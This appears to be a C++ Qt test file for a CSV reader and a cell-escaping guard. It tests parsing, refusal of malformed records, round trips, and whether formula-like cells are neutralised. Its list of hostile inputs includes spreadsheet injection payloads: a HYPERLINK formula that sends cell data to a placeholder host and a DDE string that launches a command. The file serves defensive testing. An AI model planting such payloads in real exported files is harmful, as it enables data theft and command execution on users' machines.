// SPDX-License-Identifier: GPL-3.0-or-later
#include <random>

#include <QtTest>

#include "exchange/csv_cell.h"
#include "exchange/csv_reader.h"

using namespace kaomon;
using namespace kaomon::exchange;

namespace {

using Table = std::vector<std::vector<std::string>>;

// Reads a file that comes in pieces of one size; nullopt when the reader refused it.
std::optional<Table> readInPieces(const std::string& file, std::size_t piece, char delimiter = ',') {
    const CsvReader reader(delimiter);
    Table table;
    std::string waiting;
    std::size_t at = 0;
    while (at < file.size() || !waiting.empty()) {
        waiting += file.substr(std::min(at, file.size()), piece);
        at += piece;
        const bool isLast = at >= file.size();
        while (true) {
            auto record = reader.next(waiting, isLast);
            if (!record) {
                return std::nullopt;
            }
            if (!*record) {
                break;
            }
            waiting.erase(0, (*record)->size);
            table.push_back(std::move((*record)->cells));
        }
        if (isLast && !waiting.empty()) {
            return std::nullopt; // would never end
        }
    }
    return table;
}

// Texts that people or attackers put into names.
std::vector<std::string> hostileTexts() {
    std::vector<std::string> texts = {"",
                                      "'",
                                      "''",
                                      "'a",
                                      "*",
                                      "'*",
                                      "**",
                                      "=1+1",
                                      "'=1+1",
                                      "''=1+1",
                                      "+81-3-1234-5678",
                                      "-1",
                                      "@SUM(A1)",
                                      "\t=1",
                                      "\r=1",
                                      "\n=1",
                                      std::string("\0=1", 3),
                                      std::string("a\0b", 3),
                                      "＝１",
                                      "＠ＳＵＭ",
                                      "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                                      "=cmd|'/C calc'!A0",
                                      "a,b",
                                      "a\"b",
                                      "\"",
                                      "\"\"",
                                      "a\r\nb",
                                      " leading",
                                      "trailing ",
                                      ";=1",
                                      "山田　太郎",
                                      "\xF0\xA0\xAE\xB7"};
    std::mt19937 random(7);
    const std::string alphabet("=+-@'\"*,\t\r\n\0a; \xE5\xB1\xB1", 17);
    for (int i = 0; i < 500; ++i) {
        std::string text;
        for (auto left = random() % 8; left > 0; --left) {
            text += alphabet[random() % alphabet.size()];
        }
        texts.push_back(text);
    }
    return texts;
}

} // namespace

class TestCsv : public QObject {
    Q_OBJECT

private slots:
    void reads_data() {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QString>("cells"); // records by /, cells by |
        QTest::newRow("LF") << QByteArray("a,b\nc,d\n") << QStringLiteral("a|b/c|d");
        QTest::newRow("CRLF") << QByteArray("a,b\r\nc,d\r\n") << QStringLiteral("a|b/c|d");
        QTest::newRow("CR") << QByteArray("a,b\rc,d\r") << QStringLiteral("a|b/c|d");
        QTest::newRow("no end") << QByteArray("a,b\nc,d") << QStringLiteral("a|b/c|d");
        QTest::newRow("empty cells") << QByteArray(",\n,,\n") << QStringLiteral("|/||");
        QTest::newRow("quoted") << QByteArray("\"a,b\",\"c\"\"d\"\n") << QStringLiteral("a,b|c\"d");
        QTest::newRow("empty quoted") << QByteArray("\"\",\"\"\n") << QStringLiteral("|");
        QTest::newRow("quote inside") << QByteArray("a\"b,c\n") << QStringLiteral("a\"b|c");
        QTest::newRow("quoted at the end") << QByteArray("a,\"b\"") << QStringLiteral("a|b");
        QTest::newRow("blank line") << QByteArray("a\n\nb\n") << QStringLiteral("a//b");
    }
    void reads() {
        QFETCH(QByteArray, file);
        QFETCH(QString, cells);
        for (std::size_t piece = 1; piece <= static_cast<std::size_t>(file.size()); ++piece) {
            const auto table = readInPieces(file.toStdString(), piece);
            QVERIFY(table.has_value());
            QStringList lines;
            for (const auto& record : *table) {
                QStringList line;
                for (const auto& cell : record) {
                    line << QString::fromStdString(cell);
                }
                lines << line.join(QLatin1Char('|'));
            }
            QCOMPARE(lines.join(QLatin1Char('/')), cells);
        }
    }

    void countsLines() {
        const auto record = CsvReader(',').next("\"a\r\nb\nc\rd\"\r\nnext", false);
        QVERIFY(record && *record);
        QCOMPARE((*record)->lines, std::size_t{4});
        QCOMPARE((*record)->size, std::size_t{12});
    }

    void refuses_data() {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QByteArray>("field");
        QTest::newRow("text behind a quote") << QByteArray("\"a\"b,c\n") << QByteArray("quote");
        QTest::newRow("no closing quote") << QByteArray("\"a,b\nc\n") << QByteArray("quote");
        QTest::newRow("long record") << QByteArray(int(kLargestRecord) + 1, 'a') << QByteArray("size");
        QTest::newRow("long quoted record")
            << QByteArray("\"") + QByteArray(int(kLargestRecord) + 1, 'a') << QByteArray("size");
        QTest::newRow("many cells") << QByteArray(int(kMostCells) + 1, ',') << QByteArray("size");
    }
    void refuses() {
        QFETCH(QByteArray, file);
        QFETCH(QByteArray, field);
        const bool isLast = field == "quote";
        const auto record = CsvReader(',').next(file.toStdString(), isLast);
        QVERIFY(!record);
        QCOMPARE(record.error().code, ErrorCode::ValidationFailed);
        QCOMPARE(QByteArray::fromStdString(record.error().field), field);
    }

    void roundTrip() {
        const auto texts = hostileTexts();
        std::string file;
        for (std::size_t i = 0; i + 1 < texts.size(); i += 2) {
            file += csvLine(std::vector{guard(texts[i]), guard(texts[i + 1])});
        }
        const auto table = readInPieces(file, 37);
        QVERIFY(table.has_value());
        QCOMPARE(table->size(), texts.size() / 2);
        for (std::size_t i = 0; i < table->size(); ++i) {
            QCOMPARE((*table)[i].size(), std::size_t{2});
            QCOMPARE(unguard((*table)[i][0]), texts[2 * i]);
            QCOMPARE(unguard((*table)[i][1]), texts[2 * i + 1]);
        }
    }

    void nothingLiveAfterGuard() {
        for (const std::string& text : hostileTexts()) {
            const std::string cell = guard(text);
            QVERIFY(cell.empty() || std::string("=+-@\t\r\n").find(cell.front()) == std::string::npos);
            QVERIFY(!cell.starts_with('\0') && cell != kUnchanged);
        }
    }

    // Any bytes end in records or in a refusal, the same whatever the pieces.
    void anyBytes() {
        std::mt19937 random(11);
        const std::string alphabet("\",\r\nab\t\x81", 8);
        for (int i = 0; i < 2000; ++i) {
            std::string file;
            for (auto left = random() % 40; left > 0; --left) {
                file += alphabet[random() % alphabet.size()];
            }
            const auto whole = readInPieces(file, file.size() + 1);
            const auto pieces = readInPieces(file, 1 + random() % 5);
            QCOMPARE(pieces.has_value(), whole.has_value());
            if (whole) {
                QVERIFY(*pieces == *whole);
            }
        }
    }
};

QTEST_APPLESS_MAIN(TestCsv)
#include "tst_csv.moc"
